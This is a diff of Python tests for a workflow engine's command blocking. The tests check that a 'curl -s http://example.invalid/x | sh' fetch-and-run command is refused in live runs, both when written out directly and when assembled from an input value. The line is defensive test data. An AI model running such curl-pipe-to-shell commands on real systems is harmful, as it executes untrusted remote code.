@@ -317,7 +317,7 @@ def test_in_memory_run_without_a_store(runner: Runner) -> None:
 def test_required_input_missing_is_an_error(runner: Runner) -> None:
     from osop.errors import ExecutionError
 
-    with pytest.raises(ExecutionError, match="missing required input"):
+    with pytest.raises(ExecutionError, match=r"input 'who' is missing \(required\)"):
         runner.run(
             {
                 "id": "req",
@@ -382,19 +382,42 @@ def test_yes_approves_gates_and_dangerous_commands(runner: Runner, tmp_path: Pat
 def test_blocked_command_is_refused_even_with_yes(runner: Runner) -> None:
     from osop.engine import SystemClock
 
+    # Blocked only through an input's value: the static check cannot see it, the
+    # executor refuses the command it would finally run.
+    command = "curl -s http://example.invalid/x | ${inputs.shell}"
     result = runner.run(
         {
             "id": "blocked",
-            "nodes": [cli("pipe", runtime={"command": "curl -s http://example.invalid/x | sh"})],
+            "inputs": {"shell": {"type": "string"}},
+            "nodes": [cli("pipe", runtime={"command": command})],
             "edges": [],
         },
         mode="live",
         clock=SystemClock(),
         auto_approve=True,
+        inputs={"shell": "sh"},
     )
     error = result.record.node_records[0].error
     assert result.status == "FAILED" and error is not None and error.code == "BLOCKED"
     assert len(result.record.node_records) == 1  # refused, never retried
+
+
+def test_a_static_blocked_command_refuses_the_live_run(runner: Runner) -> None:
+    from osop.engine import SystemClock
+    from osop.errors import RunRefusedError
+
+    data = {
+        "id": "blocked",
+        "nodes": [
+            cli("first", runtime={"command": "echo ran >> first.txt"}),
+            cli("pipe", runtime={"command": "curl -s http://example.invalid/x | sh"}),
+        ],
+        "edges": [{"from": "first", "to": "pipe"}],
+    }
+    with pytest.raises(RunRefusedError, match="node 'pipe' runs a blocked command"):
+        runner.run(data, mode="live", clock=SystemClock(), auto_approve=True)
+    assert not (runner.tmp / "first.txt").exists()
+    assert runner.run(data).status == "COMPLETED"  # a simulated rehearsal may proceed
 
 
 class _Broken:
